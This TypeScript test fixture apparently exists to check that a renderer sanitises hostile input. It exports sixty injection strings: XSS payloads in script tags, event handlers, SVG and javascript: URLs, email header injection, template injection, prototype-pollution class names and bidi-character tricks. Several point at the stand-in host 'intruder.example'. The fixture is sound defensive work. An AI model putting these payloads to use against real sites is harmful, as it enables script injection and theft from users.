/*
 * Texts of people who want more than to be read. Each would give itself away where it got through: by a
 * call of `intruded`, a request to FOREIGN_HOST, a class, style or attribute that names INTRUDER, or a link
 * that is more than it should be (see hostile-screens.ts).
 */

/** A host of nobody: every request to it was made by a payload. */
export const FOREIGN_HOST = 'intruder.example';
/** What a class, an id or an attribute is called that a payload tries to bring in. */
export const INTRUDER = 'intruder';

const CALL = 'intruded()';
const URL = `//${FOREIGN_HOST}/`;
const MARKUP = [
  `<script>${CALL}</script>`,
  `<SCRIPT SRC=${URL}x.js></SCRIPT>`,
  `"><script>${CALL}</script>`,
  `'><script>${CALL}</script>`,
  `</script><script>${CALL}</script>`,
  `</ScRiPt ><img src=x onerror=${CALL}>`,
  `<!--<script>${CALL}</script>`,
  `--><script>${CALL}</script>`,
  `]]><script>${CALL}</script>`,
  `</title><script>${CALL}</script>`,
  `</textarea><script>${CALL}</script>`,
  `</style><script>${CALL}</script>`,
  `</noscript><img src=x onerror=${CALL}>`,
  // As long as a document can hold many of.
  `<b>${CALL}</b>`.repeat(1500),
  `<scr<script>ipt>${CALL}</script>`,
  `&lt;script&gt;${CALL}&lt;/script&gt;`,
  `<template><script>${CALL}</script></template>`,
  `<iframe srcdoc="<script>parent.${CALL}</script>"></iframe>`,
  `<object data="data:text/html,<script>${CALL}</script>"></object>`,
  `<embed src="${URL}x.swf">`,
  `<base href="https:${URL}">`,
  `<meta http-equiv="refresh" content="0;url=https:${URL}">`,
  `<link rel=stylesheet href="${URL}x.css">`,
  `<form action="https:${URL}"><button>Send</button></form>`,
];

const HANDLERS = [
  `<img src=x onerror=${CALL}>`,
  `<img src="${URL}pixel.png">`,
  `" autofocus onfocus="${CALL}" ${INTRUDER}="`,
  `' onmouseover='${CALL}' ${INTRUDER}='`,
  `\` onload=${CALL} ${INTRUDER}=\``,
  `<body onload=${CALL}>`,
  `<details open ontoggle=${CALL}>`,
  `<input autofocus onfocus=${CALL}>`,
  `<video><source onerror=${CALL}></video>`,
  `<div style="animation:spin 1s" onanimationstart=${CALL}>`,
];

const VECTORS = [
  `<svg onload=${CALL}>`,
  `<svg><script>${CALL}</script></svg>`,
  `<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>`,
  `<math><mi xlink:href="javascript:${CALL}">x</mi></math>`,
];

const ADDRESSES = [
  `javascript:${CALL}`,
  `  JaVaScRiPt:${CALL}`,
  `java\tscript:${CALL}`,
  `data:text/html,<script>${CALL}</script>`,
  `https:${URL}`,
  `../../admin/dashboard?next=${URL}#x`,
];

const LINKS = [
  `grace@example.com?bcc=${INTRUDER}@${FOREIGN_HOST}`,
  `grace@example.com,${INTRUDER}@${FOREIGN_HOST}`,
  `grace@example.com\r\nBcc: ${INTRUDER}@${FOREIGN_HOST}`,
  `grace@example.com%0ABcc:${INTRUDER}@${FOREIGN_HOST}`,
  `+1 212 555 0100;phone-context=${INTRUDER}`,
];

const TEMPLATES = [
  `{{constructor.constructor('${CALL}')()}}`,
  `\${${CALL}}`,
  `<%= ${CALL} %>`,
  `#{${CALL}}`,
];

const CLASSES = [
  `fas fa-cloud ${INTRUDER} fixed inset-0 z-60`,
  `fas fa-constructor" class="${INTRUDER}`,
  `blue;background:url(${URL}x.png)`,
  'constructor',
  '__proto__',
];

const LETTERS = [`\u202Eecnarg\u2066 ${CALL}\u202E`, `\u2028${CALL}\u2029\u0000\uFEFF\u200B`];

/** Sixty of them, each only once. */
export const PAYLOADS: readonly string[] = [
  ...MARKUP,
  ...HANDLERS,
  ...VECTORS,
  ...ADDRESSES,
  ...LINKS,
  ...TEMPLATES,
  ...CLASSES,
  ...LETTERS,
];
